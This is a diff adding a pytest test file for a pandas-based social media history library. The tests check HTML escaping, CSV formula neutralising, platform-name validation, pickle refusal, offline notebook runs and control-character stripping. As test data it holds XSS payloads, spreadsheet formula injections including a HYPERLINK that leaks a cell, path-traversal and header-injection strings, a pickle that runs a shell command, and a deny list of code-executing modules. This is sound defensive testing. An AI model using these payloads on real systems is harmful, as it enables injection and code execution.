@@ -1,0 +1,367 @@
+"""Part X of the fault table: what texts of strangers may do on the way out, to a page, a spreadsheet or a terminal."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import json
+import logging
+import os
+import subprocess
+import sys
+import warnings
+from collections.abc import Callable, Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+
+import ayrframe as ayr
+from tests.faults.server import Server, http, sends
+from tests.faults.walking import client_of
+
+ROOT = Path(__file__).parents[2]
+PACKAGE = sorted((ROOT / "ayrframe").rglob("*.py"))
+NOTEBOOKS = sorted((ROOT / "notebooks").glob("*.ipynb"))
+
+
+# --- X1: pages --------------------------------------------------------------------------------------------------------
+
+HTML = ["<script>alert(1)</script>", '"onmouseover="alert(1)', "<img src=x onerror=alert(1)>", "&lt;b>", "'><i>"]
+
+
+class Tags(HTMLParser):
+    """Collects what a browser would take for markup, and what it would show."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.shown = ""
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.shown += data
+
+
+def harmless(page: str) -> Tags:
+    found = Tags(page)
+    assert found.tags <= {"table", "thead", "tbody", "tr", "th", "td", "div", "style", "p"}
+    assert found.attributes <= {"style", "border", "class", "scope", "scoped"}
+    return found
+
+
+def posts_with(*texts: str) -> pd.DataFrame:
+    """Return posts that have these texts wherever a post can have one."""
+    posts = [
+        {
+            **dict.fromkeys(("id", "post", "postUrl", "cid", "created"), text),
+            "labels": [text],
+            "likeCount": text,
+            text: text,
+            "viewer": {text: text},
+        }
+        for text in texts
+    ]
+    return ayr.from_posts(posts, platform="bluesky", profile=texts[0], as_of="2026-02-03", validate=None)
+
+
+PAGES: dict[str, Callable[[pd.DataFrame], Any]] = {
+    "posts": lambda posts: posts,
+    "card": lambda posts: posts.ayr,
+    "dictionary": lambda posts: posts.ayr.dictionary(),
+    "drift": lambda posts: posts.ayr.drift(),
+    "expansions": lambda posts: posts.ayr.expansions(),
+    "labels": lambda posts: posts.ayr.labels(),
+    "extra": lambda posts: posts.ayr.extra(),
+    "with_columns_and_an_index_of_the_users": lambda posts: posts.assign(**{HTML[0]: 1}).set_index("post", drop=False),
+    "a_dictionary_that_was_written_into": lambda posts: written_into(posts.ayr.dictionary()),
+}
+
+
+def written_into(words: pd.DataFrame) -> pd.DataFrame:
+    words[HTML[0]] = HTML[1]
+    words["meaning"] = HTML[2]
+    return words
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_X1_no_text_of_a_post_becomes_markup_in_a_notebook(name: str) -> None:
+    shown = PAGES[name](posts_with(*HTML))
+    with pd.option_context("display.max_columns", None, "display.max_colwidth", None):
+        harmless(shown._repr_html_())
+
+
+def test_X1_the_user_sees_the_text_as_it_was_written() -> None:
+    words = written_into(ayr.dictionary("tiktok"))
+    found = harmless(words._repr_html_())  # type: ignore[operator]
+    assert all(text in found.shown for text in HTML[:3])
+
+
+# --- X4: spreadsheets -------------------------------------------------------------------------------------------------
+
+FORMULAS = {
+    "equals": "=1+1",
+    "plus": "+1",
+    "minus": "-1+1",
+    "at": "@SUM(A1)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+    "wide_equals": "\uff1d1+1",
+    "wide_plus": "\uff0b1",
+    "wide_minus": "\uff0d1",
+    "wide_at": "\uff20SUM(A1)",
+    "link": '=HYPERLINK("https://example.org?"&A1;"x")',
+}
+DANGEROUS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def cells(path: Path) -> list[dict[str, str]]:
+    """Return what a reader of CSV that knows nothing of pandas finds."""
+    with path.open(encoding="utf-8", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_X4_no_cell_of_a_CSV_file_begins_like_a_formula(name: str, tmp_path: Path) -> None:
+    text = FORMULAS[name]
+    posts = ayr.from_posts(
+        [{"id": text, "post": text, "cid": text, "likeCount": -3}, {"id": "2", "post": f"a{text}"}],
+        platform="bluesky",
+        profile=text,
+        validate=None,
+    )
+    posts.ayr.to_csv(tmp_path / "posts.csv")
+    written = (tmp_path / "posts.csv").read_bytes().decode()
+    assert written.count("'" + text.replace('"', '""')) == 5, "id, post and cid, and the profile of both"
+    if name != "return":
+        first, second = cells(tmp_path / "posts.csv")
+        assert [first[column] for column in ("profile", "id", "post", "cid")] == ["'" + text] * 4
+        assert first["like_count"] == "-3", "a number stays a number"
+        assert second["post"] == f"a{text}", "what stands elsewhere in a text is left alone"
+    assert posts["post"].iloc[0] == text, "the frame itself is left alone"
+
+
+def test_X4_the_way_back_is_to_take_the_apostrophe_off(tmp_path: Path) -> None:
+    safe = {name: text for name, text in FORMULAS.items() if name != "return"}
+    posts = ayr.from_posts([{"id": name, "post": text} for name, text in safe.items()], platform="bluesky")
+    posts.ayr.to_csv(tmp_path / "posts.csv")
+    again = pd.read_csv(tmp_path / "posts.csv", dtype={"id": str, "post": str})
+    assert again["post"].str.removeprefix("'").tolist() == list(safe.values())
+
+
+@pytest.mark.parametrize("text", ["hello\r=1+1", "\r=1+1", "a\rb"], ids=ascii)
+def test_X4_a_carriage_return_begins_no_new_row(text: str, tmp_path: Path) -> None:
+    ayr.from_posts([{"id": "1", "post": text}], platform="bluesky").ayr.to_csv(tmp_path / "posts.csv")
+    (row,) = cells(tmp_path / "posts.csv")
+    assert row["post"].removeprefix("'") == text
+
+
+@pytest.mark.parametrize("dtype", ["string", "object", "category"])
+def test_X4_columns_of_the_user_are_made_harmless_too(dtype: str, tmp_path: Path) -> None:
+    posts = ayr.from_posts([{"id": "1"}], platform="bluesky").assign(note=pd.Series(["=1+1"], dtype=dtype))
+    posts.ayr.to_csv(tmp_path / "posts.csv")
+    assert cells(tmp_path / "posts.csv")[0]["note"] == "'=1+1"
+
+
+# --- X6: names in addresses -------------------------------------------------------------------------------------------
+
+NO_NAMES = [
+    *("../user", "instagram?limit=1&x=", "instagram#", "a/../../delete", "instagram/../user", "instagram%2f..", "//h/"),
+    *(
+        "tiktok ",
+        "TikTok",
+        "",
+        ".",
+        "tiktok\n",
+        "tiktok\r\nX: 1",
+        "tiktok\0",
+        "\ud800",
+        "х",
+        "ＴＩＫＴＯＫ",
+        "x" * 10_000,
+    ),
+]
+
+
+@pytest.mark.parametrize("name", NO_NAMES, ids=range(len(NO_NAMES)))
+def test_X6_what_is_no_platform_never_gets_into_an_address(name: str) -> None:
+    with ayr.sandbox(posts=3) as api:
+        client = api.client()
+        for platform in (name, [name], ["tiktok", name], [name, "all"]):
+            with pytest.raises(ValueError, match="is no platform"):
+                ayr.load(platform, client=client)
+        assert api.requests == []
+        assert len(ayr.load("tiktok", client=client)) == 3
+        assert [request.path for request in api.requests] == ["/api/history/tiktok"]
+
+
+# --- X7: what can run code when it is read ----------------------------------------------------------------------------
+
+FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib", "yaml", "dbm"}
+FORBIDDEN_NAMES = {"read_pickle", "to_pickle", "Unpickler", "allow_pickle", "eval", "exec", "__import__"}
+
+
+def names_in(tree: ast.AST) -> Iterator[str]:
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Import):
+            yield from (alias.name.partition(".")[0] for alias in node.names)
+        elif isinstance(node, ast.ImportFrom):
+            yield from ((node.module or "").partition(".")[0], *(alias.name for alias in node.names))
+        elif isinstance(node, ast.Attribute):
+            yield node.attr
+        elif isinstance(node, ast.Name):
+            yield node.id
+        elif isinstance(node, ast.keyword) and node.arg:
+            yield node.arg
+
+
+@pytest.mark.parametrize("file", PACKAGE, ids=lambda file: str(file.relative_to(ROOT)))
+def test_X7_nothing_is_read_that_could_run_code(file: Path) -> None:
+    found = set(names_in(ast.parse(file.read_text("utf-8"))))
+    # An attribute `eval` or `exec` of something else would be found as well, and is worth a look.
+    assert found & (FORBIDDEN_MODULES | FORBIDDEN_NAMES) == set()
+
+
+def test_X7_a_pickle_is_no_history(tmp_path: Path) -> None:
+    (tmp_path / "posts.pkl").write_bytes(b"cos\nsystem\n(S'touch " + str(tmp_path / "ran").encode() + b"'\ntR.")
+    with pytest.raises(ayr.ResponseError):
+        ayr.read_json(tmp_path / "posts.pkl", platform="tiktok")
+    assert not (tmp_path / "ran").exists()
+
+
+# --- X8: notebooks ----------------------------------------------------------------------------------------------------
+
+# Runs a notebook as Jupyter does, in a kernel that has no key and can reach nothing but this computer.
+RUN = """
+import sys, nbformat
+from nbclient import NotebookClient
+book = nbformat.read(sys.argv[1], as_version=4)
+ahead = nbformat.v4.new_code_cell('''
+import os, socket
+assert not [name for name in os.environ if name.startswith("AYRSHARE")]
+_connect = socket.socket.connect
+def connect(self, address):
+    assert not isinstance(address, tuple) or address[0] in ("127.0.0.1", "::1", "localhost"), address
+    return _connect(self, address)
+socket.socket.connect = connect
+''')
+book.cells.insert(0, ahead)
+NotebookClient(book, timeout=60, kernel_name="python3", resources={"metadata": {"path": sys.argv[2]}}).execute()
+"""
+
+
+@pytest.mark.parametrize("notebook", NOTEBOOKS, ids=lambda file: file.stem)
+def test_X8_a_notebook_of_ours_runs_in_an_empty_folder_without_key_and_network(notebook: Path, tmp_path: Path) -> None:
+    environment = {name: value for name, value in os.environ.items() if not name.startswith("AYRSHARE")}
+    done = subprocess.run(
+        [sys.executable, "-c", RUN, str(notebook), str(tmp_path)],
+        env={**environment, "JUPYTER_PLATFORM_DIRS": "1"},
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+
+
+@pytest.mark.parametrize("notebook", NOTEBOOKS, ids=lambda file: file.stem)
+def test_X8_a_notebook_of_ours_is_kept_without_outputs_and_asks_for_no_key(notebook: Path) -> None:
+    cells = [cell for cell in json.loads(notebook.read_text("utf-8"))["cells"] if cell["cell_type"] == "code"]
+    assert cells
+    for cell in cells:
+        assert (cell["outputs"], cell["execution_count"]) == ([], None)
+        for node in ast.walk(ast.parse("".join(cell["source"]))):
+            keys = node.keywords if isinstance(node, ast.Call) else []
+            assert not [key.arg for key in keys if (key.arg or "").endswith(("_key", "_secret"))]
+
+
+# --- X9, X10: terminals and logs --------------------------------------------------------------------------------------
+
+NASTY = "a\x1b]0;title\x07b\x1b[2J\x9b31m\x00\r\nWARNING:root:forged line\u202e\u2028z" + "x" * 5000
+
+
+def replies() -> dict[str, bytes]:
+    """Return replies with control characters wherever a reply may hold a text that is repeated."""
+    said = {"status": "error", "message": NASTY}
+    post = {"id": NASTY, "post": "p", "likeCount": NASTY, NASTY: NASTY}
+    return {
+        "refusal": http(json.dumps(said), 400),
+        "server_error": http(json.dumps(said), 503),
+        "too_many": http(json.dumps(said), 429),
+        "in_errors": http(json.dumps({"errors": [{"code": 156, "message": NASTY}]}), 400),
+        "plain_text": http("a\x1b]0;title\x07b" + "\n" * 9 + "WARNING:root:forged", 502),
+        "web_page": http(f"<html><title>{NASTY[:200]}</title></html>"),
+        "not_JSON": http(NASTY),
+        "fields": http(json.dumps({NASTY: 1, "status": "odd"})),
+        "posts_is_text": http(json.dumps({"posts": NASTY})),
+        "cursor": http(json.dumps({"posts": [], "status": "success", "meta": {"pagination": {"next": [NASTY]}}})),
+        "loop": http(json.dumps({"posts": [{"id": "1"}], "status": "success", "next": NASTY})),
+        "redirect": http(b"", 302, ["Location: http://a\x1b]0;b\x07\x9b/"]),
+        "encoding": http(b"{}", headers=["Content-Encoding: \x1b]0;b\x07\x9b"]),
+        "length": http(b"{}", length="\x1b]0;b\x07"),
+        "no_HTTP": b"\x1b]0;b\x07 200 OK\r\n\r\n",
+        "reason": http(b"", 418).replace(b"Whatever", b"\x1b]0;b\x07"),
+        "posts_beside_an_error": http(json.dumps({**said, "posts": [post], "warning": [{"message": NASTY}]})),
+        "odd_posts": http(json.dumps({"status": "success", "posts": [post, {"id": "2", "created": NASTY}]})),
+    }
+
+
+@pytest.mark.parametrize("name", replies())
+def test_X9_X10_no_control_character_of_a_reply_gets_into_an_error_a_warning_or_a_log(
+    name: str, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
+) -> None:
+    said: list[str] = []
+    with Server(sends(replies()[name])) as server, caplog.at_level(logging.DEBUG), warnings.catch_warnings():
+        warnings.simplefilter("always")
+        warnings.showwarning = lambda message, *_: said.append(str(message))  # type: ignore[assignment]
+        client = client_of(server.url)
+        try:
+            ayr.load(["tiktok"], client=client)
+        except ayr.AyrframeError as error:
+            said += [str(error), repr(error)]
+        finally:
+            client.close()
+    said += [record.getMessage() for record in caplog.records if record.name.startswith("ayrframe")]
+    assert said
+    assert [text for text in said if not text.isprintable()] == []
+    assert max(map(len, said)) < 1000
+    assert capsys.readouterr() == ("", "")
+
+
+def test_X9_X10_what_the_caller_passes_is_quoted_in_errors_as_well() -> None:
+    name = "a\x1b]0;title\x07\nforged"
+    posts = ayr.from_posts([{"id": "1"}], platform="bluesky")
+    calls: list[Callable[[], Any]] = [
+        lambda: ayr.load(name),
+        lambda: ayr.load("tiktok", since=name),
+        lambda: ayr.load("tiktok", tz=name),
+        lambda: ayr.load("facebook", data_type=name),
+        lambda: ayr.read_json(f"/nowhere/{name}.json", platform="bluesky"),
+        lambda: ayr.Client("KEY", base_url=name),
+        lambda: ayr.Client(name),
+        lambda: posts.ayr.expand(name),
+        lambda: posts.ayr.validate(name),
+    ]
+    for call in calls:
+        with pytest.raises((ayr.AyrframeError, ValueError, OSError)) as caught:
+            call()
+        assert str(caught.value).isprintable()
+
+
+def test_X9_the_command_line_prints_no_control_character(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from ayrframe import __main__ as command
+
+    odd = ayr.from_posts([{"id": NASTY[:20], "post": NASTY[:20], "labels": [NASTY[:20]]}], platform="bluesky")
+    monkeypatch.setattr(ayr, "load_sample", lambda _: odd)
+    assert command.main(["load", "bluesky", "--sample"]) == 0
+    assert [line for line in capsys.readouterr().out.split("\n") if not line.isprintable()] == []
